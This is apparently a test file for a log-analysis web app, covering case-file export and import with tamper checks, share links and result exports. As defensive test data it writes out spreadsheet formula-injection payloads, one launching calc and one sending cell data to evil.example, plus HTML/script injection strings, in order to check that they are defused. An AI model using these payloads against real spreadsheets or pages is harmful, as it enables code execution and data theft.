// Sharing investigations offline (issue 6): case files (export with events → reload → import →
// the same case and result; damaged or tampered files refused with a message), share links,
// result exports (CSV safe against formula injection, JSON, Markdown, chart PNG), and pinned
// evidence and notes travelling with a case.

import { test } from "node:test";
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import path from "node:path";

import {
  BASE_URL,
  ROOT,
  decodeEvents,
  dropFiles,
  editor,
  grid,
  openApp,
  pickFiles,
  poll,
  readGridRows,
  reloadApp,
  resultOf,
  runQuery,
  screenshot,
  waitForLoaded,
  waitForText,
  canvasInk,
} from "./lib.mjs";

const SAMPLE = path.join(ROOT, "public/sample/cloudtrail-sample.json.gz");
const sampleEvents = async () => {
  const bytes = await readFile(SAMPLE);
  return decodeEvents([{ rel: "sample", name: "cloudtrail-sample.json.gz", bytes }]).events;
};

const tabs = (page) => page.getByRole("tablist", { name: "Cases" });
const caseStatus = (page) => page.getByLabel("Case sharing status");
const exportStatus = (page) => page.getByLabel("Export status");

async function loadSample(page, count) {
  await page.getByRole("button", { name: "Load sample" }).click();
  await waitForLoaded(page, count);
}

/** Clicks and returns the download it starts: { name, bytes }. */
async function download(page, click) {
  const [dl] = await Promise.all([page.waitForEvent("download"), click()]);
  return { name: dl.suggestedFilename(), bytes: await readFile(await dl.path()) };
}

async function exportCase(page, { events }) {
  const box = page.getByRole("checkbox", { name: "with the loaded events" });
  if (events) await box.check();
  else await box.uncheck();
  const file = await download(page, () => page.getByRole("button", { name: "Export case" }).click());
  await waitForText(caseStatus(page), /Exported the case as/);
  return file;
}

async function importCase(page, name, bytes) {
  await page.getByLabel("Import case file").setInputFiles({ name, mimeType: "application/json", buffer: Buffer.from(bytes) });
}

const arrivedNote = (page) => page.getByRole("note", { name: "Query not run yet" });

/**
 * The active case's query came from `origin` and has not run: the notice says so, and there
 * is no result, no error and no run in progress. (Checked once the data is loaded: a query
 * that ran by itself would have started when the load report changed.)
 */
async function assertNotRun(page, origin) {
  await waitForText(arrivedNote(page), new RegExp(`^This query came from ${origin.replace(/\./g, "\\.")}: read it, then Run\\.`));
  await waitForText(page.getByRole("region", { name: "Results area" }), /Load data, then run the query|Run the query \(Run or Ctrl\+Enter\) to see its result/);
  assert.equal(await page.getByRole("status", { name: "Result summary" }).count(), 0, "no result");
  assert.equal(await page.getByRole("alert", { name: "Query error" }).count(), 0, "no error");
  assert.equal(await page.getByRole("button", { name: "Cancel query" }).count(), 0, "nothing running");
}

function rowsOf(page) {
  return grid(page).getByRole("row").filter({ has: page.getByRole("gridcell") });
}

const TOP_EVENTS = 'fetch logs\n| parse content, "JSON:event"\n| summarize n = count(), by: { eventName = event[eventName] }\n| sort n desc\n| limit 10';

test("Case file: export with events and evidence, reload, import it, run it: the same case, events and result", async (t) => {
  const events = await sampleEvents();
  const app = await openApp(t);
  const { page } = app;
  await loadSample(page, events.length);
  const before = await runQuery(page, TOP_EVENTS);
  const gridBefore = await readGridRows(page, before.rows);
  // The top count, computed in Node.
  const counts = new Map();
  for (const e of events) counts.set(e.eventName, (counts.get(e.eventName) || 0) + 1);
  assert.equal(gridBefore.rows[0][gridBefore.headers.indexOf("n")], String(Math.max(...counts.values())));

  // Notes (with markup and a formula: text, nothing more) and one pinned record.
  const notes = "Burst of <b>AssumeRole</b> at 10:00.\n=cmd|' /C calc'!A0";
  await page.getByRole("textbox", { name: "Case notes" }).fill(notes);
  await rowsOf(page).nth(0).dblclick();
  const dialog = page.getByRole("dialog", { name: "Record details" });
  await dialog.waitFor();
  const pin = dialog.getByRole("button", { name: "Pin as evidence" });
  await pin.click();
  await poll(async () => (await pin.getAttribute("aria-pressed")) === "true", { message: "the record pinned" });
  await screenshot(page, "share-1-pinned", { asIs: true });
  await dialog.getByRole("button", { name: "Close" }).click();
  await page.getByRole("heading", { name: "Evidence (1)" }).waitFor();

  const file = await exportCase(page, { events: true });
  assert.equal(file.name, "Case-1.trailscope.json");
  const json = JSON.parse(file.bytes.toString("utf8"));
  assert.equal(json.format, "trailscope-case");
  assert.equal(json.version, 1);
  assert.match(json.sha256, /^[0-9a-f]{64}$/);
  assert.equal(json.case.name, "Case 1");
  assert.equal(json.case.notes, notes);
  assert.equal(json.case.evidence.length, 1);
  assert.equal(json.case.evidence[0].query, TOP_EVENTS);
  assert.equal(json.events.encoding, "gzip+base64");
  assert.equal(json.events.count, events.length);
  await page.getByRole("heading", { name: "Evidence (1)" }).scrollIntoViewIfNeeded();
  await screenshot(page, "share-2-case-exported", { asIs: true });

  // A reload forgets the data (the browser keeps only the cases); the case file brings it back.
  await reloadApp(app);
  await waitForText(page.getByRole("status", { name: "Load report" }), /No data loaded yet/);
  await importCase(page, file.name, file.bytes);
  await tabs(page).getByRole("tab", { name: "Case 1 (imported)", selected: true }).waitFor();
  await waitForLoaded(page, events.length);
  // The events are loaded and the query is shown, not run: the user reads it, then runs it.
  await assertNotRun(page, `the case file ${file.name}`);
  const after = await resultOf(page, () => page.getByRole("button", { name: "Run", exact: true }).click());
  assert.equal(await arrivedNote(page).count(), 0, "the notice goes once the query has run");
  assert.equal(after.rows, before.rows);
  const gridAfter = await readGridRows(page, after.rows);
  assert.deepEqual(gridAfter, gridBefore);
  assert.equal(await editor(page).inputValue(), TOP_EVENTS);
  assert.equal(await page.getByRole("textbox", { name: "Case notes" }).inputValue(), notes);
  await page.getByRole("heading", { name: "Evidence (1)" }).waitFor();
  await page.getByRole("list", { name: "Loaded sources" }).getByText(file.name).waitFor();
  await page.getByRole("textbox", { name: "Case notes" }).scrollIntoViewIfNeeded();
  await screenshot(page, "share-3-case-imported", { asIs: true });
  await app.assertClean();
});

test("Case file: damaged or tampered files are refused with a message, by button and by drop", async (t) => {
  const events = await sampleEvents();
  const app = await openApp(t);
  const { page } = app;
  await loadSample(page, events.length);
  const good = (await exportCase(page, { events: true })).bytes.toString("utf8");
  await reloadApp(app);

  const v = JSON.parse(good);
  const edit = (f) => {
    const c = structuredClone(v);
    f(c);
    return JSON.stringify(c, null, 2);
  };
  const data = v.events.data;
  const i = Math.floor(data.length / 2);
  const flipped = data.slice(0, i) + (data[i] === "A" ? "B" : "A") + data.slice(i + 1);
  const cases = [
    ["renamed, hash kept", edit((c) => (c.case.name = "Nothing to see")), /integrity hash does not match its content/, "input"],
    ["hash changed", edit((c) => (c.sha256 = "0".repeat(64))), /integrity hash does not match its content/, "drop"],
    ["one event byte flipped", edit((c) => (c.events.data = flipped)), /events' integrity hash does not match/, "drop"],
    ["newer version", edit((c) => (c.version = 2)), /case file version 2; this Trailscope reads version 1/, "input"],
    ["unknown field", edit((c) => (c.case.script = "alert(1)")), /unknown field `script`/, "input"],
    ["cut short", good.slice(0, good.length / 2), /not valid JSON/, "drop"],
  ];
  for (const [what, text, message, how] of cases) {
    // A drop with a plain `.json` name: recognised as a case file by its first bytes.
    const name = how === "drop" ? "evidence.json" : "tampered.trailscope.json";
    if (how === "drop") await dropFiles(page, [{ name, bytes: Buffer.from(text) }]);
    else await importCase(page, name, text);
    // The file's own refusal: its name and its reason (the one before may have the same reason).
    const alert = page.getByRole("alert", { name: "Case sharing status" });
    const refusal = new RegExp(`^${name.replace(/\./g, "\\.")} was not opened: .*${message.source}`);
    await waitForText(alert, refusal, { message: `the refusal of the ${what} file` });
    if (what === "renamed, hash kept") await screenshot(page, "share-4-tampered", { asIs: true });
  }
  // Nothing was opened or loaded.
  assert.deepEqual(await tabs(page).getByRole("tab").allInnerTexts(), ["Case 1"]);
  await waitForText(page.getByRole("status", { name: "Load report" }), /No data loaded yet/);
  await app.assertClean();
});

test("Share link: copy it, open it in another browser, load the data, press Run: the case runs with its time frame", async (t) => {
  const events = await sampleEvents();
  const signin = events.filter((e) => e.eventSource === "signin.amazonaws.com").length;
  const a = await openApp(t, { permissions: ["clipboard-read", "clipboard-write"] });
  let page = a.page;
  await loadSample(page, events.length);
  await page.getByRole("button", { name: "Rename case Case 1" }).click();
  await page.getByRole("textbox", { name: "Case name" }).fill("Sign-ins <today>");
  await page.getByRole("textbox", { name: "Case name" }).press("Enter");
  const query = 'fetch logs\n| parse content, "JSON:event"\n| filter event[eventSource] == "signin.amazonaws.com"\n| fields timestamp, name = event[eventName]';
  await page.getByRole("combobox", { name: "Time frame" }).selectOption({ label: "Last 2 hours" });
  const frame = await page.getByRole("combobox", { name: "Time frame" }).inputValue();
  const first = await runQuery(page, query);
  assert.ok(first.rows < signin, `the time frame narrows the result (${first.rows} of ${signin})`);
  await page.getByRole("button", { name: "Copy share link" }).click();
  await waitForText(caseStatus(page), /Share link copied/);
  const link = await page.getByRole("textbox", { name: "Share link" }).inputValue();
  assert.ok(link.startsWith(`${BASE_URL}#case=`), link);
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), link);
  assert.ok(link.length < 1000, `${link.length} characters`);
  await a.assertClean();

  const b = await openApp(t, { url: link });
  page = b.page;
  await tabs(page).getByRole("tab", { name: "Sign-ins <today>", selected: true }).waitFor();
  assert.equal(await editor(page).inputValue(), query);
  assert.equal(await page.getByRole("combobox", { name: "Time frame" }).inputValue(), frame);
  await waitForText(caseStatus(page), /Opened the shared case “Sign-ins <today>”/);
  assert.ok(!page.url().includes("#"), `the fragment is cleared: ${page.url()}`);
  await screenshot(page, "share-5-link-opened");
  // Loading the data runs nothing: the query waits for the user's Run (here Ctrl+Enter).
  await loadSample(page, events.length);
  await assertNotRun(page, "a shared link");
  const second = await resultOf(page, () => editor(page).press("Control+Enter"));
  assert.equal(second.rows, first.rows);

  // A damaged link says so and opens nothing.
  const c = await openApp(t, { url: link.slice(0, link.length - 20) });
  await waitForText(c.page.getByRole("alert", { name: "Case sharing status" }), /share link is damaged or incomplete/);
  assert.deepEqual(await tabs(c.page).getByRole("tab").allInnerTexts(), ["Case 1"]);
  await b.assertClean();
  await c.assertClean();
});

test("Exports: CSV defuses formulas, JSON and Markdown hold the rows, the chart is a PNG", async (t) => {
  const base = { eventVersion: "1.08", eventSource: "iam.amazonaws.com", awsRegion: "us-east-1", recipientAccountId: "111122223333" };
  const records = [
    { ...base, eventID: "x1", eventTime: "2026-11-20T10:00:00Z", eventName: '=HYPERLINK("http://evil.example/?"&A1,"Click")', userAgent: "a|b\nc <img src=x onerror=alert(1)>" },
    { ...base, eventID: "x2", eventTime: "2026-11-20T10:05:00Z", eventName: "+SUM(1,2)", userAgent: "@cmd" },
    { ...base, eventID: "x3", eventTime: "2026-11-20T10:10:00Z", eventName: "-2+3", userAgent: "\tTabbed" },
    { ...base, eventID: "x4", eventTime: "2026-11-20T10:15:00Z", eventName: "ListUsers", userAgent: 'say "hi", twice' },
  ];
  const app = await openApp(t, { permissions: ["clipboard-read", "clipboard-write"] });
  const { page } = app;
  await pickFiles(page, [{ name: "crafted.json", bytes: Buffer.from(JSON.stringify({ Records: records })) }]);
  await waitForLoaded(page, records.length);
  const r = await runQuery(page, 'fetch logs\n| parse content, "JSON:e"\n| fields name = e[eventName], ua = e[userAgent], n = -1');
  assert.equal(r.rows, 4);
  const byName = new Map(records.map((x) => [x.eventName, x]));

  // CSV: RFC 4180, and no cell a spreadsheet would run.
  const csv = await download(page, () => page.getByRole("button", { name: "CSV", exact: true }).click());
  assert.equal(csv.name, "Case-1-result.csv");
  const table = parseCsv(csv.bytes.toString("utf8"));
  assert.deepEqual(table[0], ["name", "ua", "n"]);
  assert.equal(table.length, 5);
  for (const row of table.slice(1)) {
    for (const cell of row.slice(0, 2)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)}`);
    const name = row[0].replace(/^'/, "");
    assert.ok(byName.has(name), `row for ${name}`);
    assert.equal(row[1].replace(/^'/, ""), byName.get(name).userAgent);
    assert.equal(row[2], "-1", "numbers stay numbers");
  }
  assert.ok(table.some((row) => row[0] === `'${records[0].eventName}`));
  await waitForText(exportStatus(page), /Downloaded Case-1-result\.csv \(4 rows\)/);

  // JSON: an array of objects with the exact values.
  const json = JSON.parse((await download(page, () => page.getByRole("button", { name: "JSON", exact: true }).click())).bytes.toString("utf8"));
  assert.equal(json.length, 4);
  for (const o of json) {
    assert.deepEqual(Object.keys(o), ["name", "ua", "n"]);
    assert.equal(o.ua, byName.get(o.name).userAgent);
    assert.equal(o.n, -1);
  }

  // Markdown: one line per row, cells that cannot break the table or become HTML.
  const md = (await download(page, () => page.getByRole("button", { name: "Markdown", exact: true }).click())).bytes.toString("utf8");
  const lines = md.trimEnd().split("\n");
  assert.equal(lines.length, 6, md);
  assert.equal(lines[0], "| name | ua | n |");
  assert.ok(lines.every((l) => l.startsWith("| ") && l.endsWith(" |")));
  assert.ok(!md.includes("<"), "no raw HTML");
  assert.ok(md.includes("a\\|b c &lt;img src=x onerror=alert(1)&gt;"), md);
  await page.getByRole("button", { name: "Copy Markdown" }).click();
  await waitForText(exportStatus(page), /Copied a Markdown table of 4 rows/);
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), md);
  await screenshot(page, "share-6-exports");

  // The chart as a PNG the size of the canvas.
  await resultOf(page, async () => {
    await editor(page).fill("fetch logs\n| makeTimeseries count(), interval: 5m");
    await page.getByRole("button", { name: "Run", exact: true }).click();
  });
  const canvas = page.locator("canvas.chart-canvas");
  await poll(async () => (await canvasInk(canvas)).ink > 0, { message: "the chart drawn" });
  const { width, height } = await canvasInk(canvas);
  const png = await download(page, () => page.getByRole("button", { name: "Chart PNG" }).click());
  assert.equal(png.name, "Case-1-chart.png");
  assert.deepEqual([...png.bytes.subarray(0, 8)], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  assert.equal(png.bytes.toString("latin1", 12, 16), "IHDR");
  assert.deepEqual([png.bytes.readUInt32BE(16), png.bytes.readUInt32BE(20)], [width, height]);
  await app.assertClean();
});

/** A small RFC 4180 reader: quoted cells, doubled quotes, line breaks inside quotes. */
function parseCsv(text) {
  const rows = [];
  let row = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}
